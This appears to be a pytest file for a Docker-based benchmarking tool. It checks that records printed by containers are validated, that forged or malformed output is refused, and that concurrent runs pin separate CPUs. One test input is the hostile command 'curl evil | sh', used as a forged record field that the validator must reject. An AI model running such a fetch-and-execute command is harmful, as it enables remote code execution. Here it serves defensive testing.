"""What a container prints is checked: it runs the code that is measured."""

from __future__ import annotations

import json
import threading
import time
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any, cast

import pytest
from docker.errors import APIError, NotFound

from ivhl.errors import SpecError
from ivhl.image import container, executor
from ivhl.image.build import EngineError
from ivhl.image.container import (
    RUN_LABEL,
    Order,
    _container,
    _messages,
    choose_cpus,
    read_message,
    taken_cpus,
)
from ivhl.image.executor import DockerExecutor, _Cell, run_label
from ivhl.measure.settings import Settings
from ivhl.records.record import Machine, to_json
from studies.stored import load_records
from tests.builders.records import make_failure, make_record

if TYPE_CHECKING:
    from ivhl.measure.run import Run
    from ivhl.records.record import RunRecord

ROOT = Path(__file__).parents[2]
MACHINE = Machine(name="m", cpu="c", n_cpus=8, memory_bytes=16 << 30, system="Linux x86_64")
IMAGE = f"sha256:{'a' * 64}"


def ordered() -> RunRecord:
    return make_record(machine=MACHINE, project="demo")


def a_cell(folder: Path, base: str | None = None) -> _Cell:
    """Return a cell whose container was asked for one case, at the head and perhaps its base."""
    record = ordered()
    settings = Settings(
        root=str(folder),
        project="demo",
        workloads="m:W",
        machine=MACHINE,
        results=str(folder / "results"),
        scratch=str(folder / "scratch"),
        interpreters={},
        events=str(folder / "events.jsonl"),
        base=base,
    )
    order = Order(
        root=folder,
        image=IMAGE,
        settings=settings,
        cell=record.cell,
        commit=record.commit,
        records=(),
        cpus="0",
        memory_bytes=1 << 30,
        run="x",
    )
    name = f"{record.workload}/{record.size}/{record.variant}"
    case = SimpleNamespace(name=name, workload=SimpleNamespace(version=record.workload_version))
    pins = dict(package.split("==") for package in record.conditions.packages)
    return _Cell(None, order, {case.name: cast("Any", case)}, pins)


def said(record: RunRecord | str, case: str = "ops.gp_evolve/small/naive-compiled") -> Any:  # noqa: ANN401
    line = record if isinstance(record, str) else to_json(record)
    return {"event": "case-record", "case": case, "record": line}


def test_the_record_that_was_ordered_is_kept(tmp_path: Path) -> None:
    cell = a_cell(tmp_path)
    cell._receive(said(ordered()))
    assert cell.left
    cell._receive({"event": "case-finished", "case": said("")["case"]})
    (kept,) = load_records(tmp_path / "results").records
    assert kept.conditions.image == IMAGE
    assert cell.left == ()


def test_records_of_both_commits_are_kept_where_both_were_ordered(tmp_path: Path) -> None:
    base, name = "b" * 40, said("")["case"]
    cell = a_cell(tmp_path, base)
    cell._receive(said(replace(ordered(), commit=base)))
    with pytest.raises(EngineError, match="has no record that could be kept"):
        cell._receive({"event": "case-unchanged", "case": name})
    cell._receive(said(replace(ordered(), same_as=base)))
    cell._receive({"event": "case-unchanged", "case": name})
    assert cell.left == ()
    kept = load_records(tmp_path / "results").records
    assert {(one.commit, one.same_as) for one in kept} == {(base, None), (ordered().commit, base)}
    with pytest.raises(EngineError, match="same_as: must be b"):
        cell._receive(said(replace(ordered(), same_as="c" * 40)))


def test_a_commit_that_could_not_be_built_leaves_the_cases_of_the_other(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def failing(run: Run, *_: object, **__: object) -> RunRecord:
        return replace(
            ordered(), commit=run.commit, failure=make_failure("build").failure, speedup=None
        )

    monkeypatch.setattr("ivhl.image.executor.failed_everywhere", failing)
    base, name = "b" * 40, said("")["case"]
    cell = a_cell(tmp_path, base)
    failed = {"event": "build-failed", "message": "no compiler", "output": "..."}
    with pytest.raises(EngineError, match="commit: was not ordered"):
        cell._receive(failed | {"commit": "c" * 40})
    cell._receive(failed | {"commit": base})
    assert cell.left == (name,)
    (kept,) = load_records(tmp_path / "results").records
    assert kept.failure is not None
    assert (kept.commit, kept.failure.failure_class) == (base, "build")


@pytest.mark.parametrize(
    ("changes", "rule"),
    [
        ({"machine": replace(MACHINE, name="main-runner")}, "machine: must be"),
        ({"machine": replace(MACHINE, cpu="another")}, "machine: must be"),
        ({"commit": "f" * 40}, "commit: must be"),
        ({"project": "other"}, "project: must be"),
        ({"cell": replace(ordered().cell, lock_sha256="0" * 64)}, "cell: must be"),
        ({"variant": "other"}, "case: must be"),
        ({"conditions": replace(ordered().conditions, device="cuda X")}, "conditions.device"),
        ({"duration_s": -1.0}, "duration_s: must be from 0"),
        # The newest version of a workload hides all others, on every machine.
        ({"workload_version": 999}, "workload_version: must be"),
        ({"recorded_at": "2099-01-01T00:00:00+00:00"}, "must not be in the future"),
        ({"command": "x" * 70_000}, "command: must be one line of at most"),
        ({"command": "curl evil | sh"}, "command: must be one that ivhl writes"),
        ({"phase_s": {"x" * 70_000: 1.0}}, "phase_s: must be a phase of a case"),
        ({"conditions": replace(ordered().conditions, instrument="x")}, "conditions.instrument"),
        ({"conditions": replace(ordered().conditions, packages=("torch==0",))}, "the lock of"),
    ],
)
def test_a_record_of_something_else_is_not_kept(
    tmp_path: Path, changes: dict[str, Any], rule: str
) -> None:
    with pytest.raises(EngineError, match="printed a record that was not ordered") as caught:
        a_cell(tmp_path)._receive(said(replace(ordered(), **changes)))
    assert rule in str(caught.value)
    assert load_records(tmp_path / "results").records == ()


def test_a_case_without_a_record_is_not_kept_and_a_build_that_ended_does_not_fail(
    tmp_path: Path,
) -> None:
    cell = a_cell(tmp_path)
    name = said("")["case"]
    with pytest.raises(EngineError, match="has no record that could be kept"):
        cell._receive({"event": "case-kept", "case": name})
    cell._receive({"event": "cell-measuring"})
    cell._receive(said(ordered()))
    with pytest.raises(EngineError, match="cannot fail once cases are measured"):
        cell._receive({"event": "cell-failed", "commit": "x", "message": "x", "output": ""})
    (kept,) = load_records(tmp_path / "results").records
    assert kept.failure is None


@pytest.mark.parametrize("line", ["", "5", "{}", "x", "[" * 5000, '{"schema": "ivhl.run/99"}'])
def test_a_record_that_is_none_is_no_traceback(tmp_path: Path, line: str) -> None:
    with pytest.raises(EngineError, match="not ordered"):
        a_cell(tmp_path)._receive(said(line))


def test_a_case_that_was_not_ordered_is_refused(tmp_path: Path) -> None:
    with pytest.raises(EngineError, match="was not ordered"):
        a_cell(tmp_path)._receive({"event": "case-kept", "case": "x"})


@pytest.mark.parametrize(
    "line",
    [
        b"5",
        b"null",
        b"[]",
        b'"x"',
        b"{}",
        b'{"event": 5}',
        b'{"event": []}',
        b'{"event": "case-finished"}',
        b'{"event": "case-record", "case": 1, "record": "x"}',
        b'{"event": "no-such-event"}',
        b"[" * 5000,
        b"\xff",
        b"9" * 5000,
    ],
)
def test_other_output_is_no_message(line: bytes) -> None:
    assert read_message(line) is None
    errors: list[bytes] = []
    assert list(_messages([(line + b"\n", None)], errors, "testing")) == []
    assert errors


def test_a_message_has_only_what_belongs_to_it() -> None:
    line = json.dumps({"event": "cell-building", "cell": "forged", "at": 1, "event2": 3}).encode()
    assert read_message(line) == {"event": "cell-building"}


def test_output_without_end_is_an_error_and_takes_no_memory() -> None:
    errors: list[bytes] = []
    with pytest.raises(EngineError, match="a line of more than"):
        list(_messages(((b"x" * 2**20, None) for _ in range(100)), errors, "testing"))
    list(_messages(((b"y" * 5000 + b"\n", b"z" * 5000) for _ in range(1000)), errors, "testing"))
    assert sum(map(len, errors)) <= 50 * 2000


class _Engine:
    """An engine with containers, slow enough that two that ask it at once get the same answer."""

    def __init__(self, *pinned: str) -> None:
        self.containers = self
        self.lock = threading.Lock()
        self.here: dict[str, Any] = {}
        self.now = "2026-11-23T12:00:00.123456789Z"
        for cpus in pinned:
            self.create(cpuset_cpus=cpus, name=f"other-{cpus}").status("running")

    def info(self) -> dict[str, str]:
        return {"SystemTime": self.now}

    def create(self, *, name: str, cpuset_cpus: str = "", **_: Any) -> Any:  # noqa: ANN401
        with self.lock:
            if any(one.name == name for one in self.here.values()):
                raise APIError("in use", response=cast("Any", SimpleNamespace(status_code=409)))
            one = _Made(self, f"{len(self.here):064}", name, cpuset_cpus)
            self.here[one.id] = one
        return one

    def get(self, name: str) -> Any:  # noqa: ANN401
        for one in list(self.here.values()):
            if one.name == name:
                return one
        raise NotFound("none")

    def list(self, **_: Any) -> Any:  # noqa: ANN401
        found = [one for one in list(self.here.values()) if not one.removed]
        time.sleep(0.02)
        return found


class _Made:
    """A container of ``_Engine``."""

    def __init__(self, engine: _Engine, number: str, name: str, cpus: str) -> None:
        self.engine, self.id, self.name, self.removed = engine, number, name, False
        self.attrs: dict[str, Any] = {
            "HostConfig": {"CpusetCpus": cpus},
            "State": {"Status": "created"},
            "Created": engine.now,
        }

    def status(self, status: str) -> None:
        self.attrs["State"]["Status"] = status

    def update(self, *, cpuset_cpus: str) -> None:
        self.attrs["HostConfig"]["CpusetCpus"] = cpuset_cpus

    def rename(self, name: str) -> None:
        self.name = name

    def remove(self, **_: Any) -> None:  # noqa: ANN401
        self.removed, self.name = True, ""


def test_two_runs_on_one_engine_have_cpus_of_their_own() -> None:
    assert taken_cpus(_Engine("6,7", "", "x")) == {6, 7}
    assert choose_cpus("", MACHINE, 1) == (6, 7)
    with pytest.raises(SpecError, match="IVHL_IMAGE_CPUS: must be CPUs from 0 to 7"):
        choose_cpus(f"0-{10**15}", MACHINE, 1)  # is not counted up to
    assert choose_cpus("", MACHINE, 1, {6, 7}) == (4, 5)
    assert choose_cpus("", MACHINE, 1, {7, 4}) == (5, 6)
    assert choose_cpus("6-7", MACHINE, 1, {6, 7}) == (6, 7)
    with pytest.raises(SpecError, match="other containers measure on CPUs 0,1,2,3,4,5,6 of 8"):
        choose_cpus("", MACHINE, 1, range(7))


def test_hosts_that_start_in_the_same_moment_choose_other_cpus(tmp_path: Path) -> None:
    engine = _Engine()
    order = a_cell(tmp_path).order
    order = replace(order, cpus="")
    ready, over = threading.Barrier(4), threading.Barrier(4)
    errors: list[BaseException] = []

    def measure() -> None:
        ready.wait()
        try:
            with _container(engine, order, "testing"):
                over.wait(timeout=30)
        except BaseException as error:  # noqa: BLE001  (shown below)
            errors.append(error)

    hosts = [threading.Thread(target=measure) for _ in range(4)]
    for host in hosts:
        host.start()
    for host in hosts:
        host.join()
    assert errors == []
    pinned = [one.attrs["HostConfig"]["CpusetCpus"] for one in engine.here.values()]
    assert sorted(pinned) == ["0,1", "2,3", "4,5", "6,7"]
    assert all(one.removed for one in engine.here.values())


def test_a_container_that_was_never_started_keeps_its_cpus_for_a_while() -> None:
    engine = _Engine("6,7")
    (one,) = engine.here.values()
    one.status("created")
    assert taken_cpus(engine) == {6, 7}
    engine.now = "2026-11-23T12:11:00Z"
    assert taken_cpus(engine) == frozenset()
    one.status("exited")
    engine.now = one.attrs["Created"]
    assert taken_cpus(engine) == frozenset()


def test_a_host_that_was_killed_while_it_chose_stops_nobody(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(container, "_MOST_CHOOSING_S", 0.0)
    engine = _Engine()
    left = engine.create(name=container.PINNED_NEXT)
    with _container(engine, a_cell(tmp_path).order, "testing"):
        pass
    assert left.removed


def test_no_other_host_has_the_label_of_a_checkout(monkeypatch: pytest.MonkeyPatch) -> None:
    root = Path("/work/project")
    mine = run_label(root)
    assert mine == run_label(root)
    assert mine != run_label(root / "other")
    monkeypatch.setattr("os.uname", lambda: SimpleNamespace(nodename="another-host"))
    assert mine != run_label(root)


def test_containers_are_removed_only_while_the_checkout_is_locked(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """``check`` runs before the lock is taken: another run of this checkout may be measuring."""
    removed: list[str] = []
    monkeypatch.setattr(executor, "remove_leftovers", lambda _, run: removed.append(run))
    docker = DockerExecutor.__new__(DockerExecutor)
    docker.client, docker._run, docker._cpus = None, "label", ""
    docker.check(a_cell(tmp_path).order.settings, "3.12")
    assert removed == []


def test_a_container_cannot_start_processes_without_end(tmp_path: Path) -> None:
    asked: dict[str, Any] = {}

    class Asked(_Engine):
        def create(self, **options: Any) -> Any:  # noqa: ANN401
            asked.update(options)
            return super().create(**options)

    with _container(Asked(), a_cell(tmp_path).order, "testing"):
        pass
    assert asked["pids_limit"] == container._MOST_PROCESSES
    assert asked["labels"] == {RUN_LABEL: "x"}


def test_the_python_of_a_base_is_tried_before_the_packages_are_fetched() -> None:
    text = (ROOT / "envs" / "docker" / "Dockerfile").read_text()
    tried = text.index("os.setuid(10001)")
    assert text.index("uv venv") < tried < text.index("uv pip sync")
